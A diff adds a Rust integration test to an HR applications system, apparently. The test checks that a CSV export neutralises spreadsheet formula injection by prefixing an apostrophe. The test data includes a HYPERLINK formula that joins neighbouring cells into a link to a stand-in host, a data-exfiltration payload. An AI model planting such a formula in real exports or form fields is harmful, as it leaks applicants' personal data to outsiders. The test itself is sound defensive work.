@@ -1099,3 +1099,28 @@ async fn lists_follow_vietnamese_name_order(pool: PgPool) {
     );
     assert!(an < zung, "{csv}");
 }
+
+#[sqlx::test(migrations = "../migrations")]
+async fn a_name_written_as_a_formula_is_exported_as_text(pool: PgPool) {
+    let f = setup(&pool).await;
+    let a = ready_applicant(&f, "a@example.vn", "040198000001").await;
+    let (id, ..) = submitted(&submit(&f.app, &a, f.round).await);
+    let name = r#"=HYPERLINK("http://x.example/?"&B2&C2,"Xem")"#;
+    sqlx::query("update applications set full_name = $2 where id = $1")
+        .bind(id)
+        .bind(name)
+        .execute(&pool)
+        .await
+        .unwrap();
+    let csv = f
+        .app
+        .get(
+            &format!("/hr/rounds/{}/applications/all.csv", f.round),
+            Some(&f.hr),
+        )
+        .await;
+    assert_eq!(csv.status, StatusCode::OK, "{}", csv.body);
+    // One apostrophe first, so the spreadsheet shows the text instead of running it.
+    let quoted = format!("\"'{}\"", name.replace('"', "\"\""));
+    assert!(csv.body.contains(&quoted), "{}", csv.body);
+}
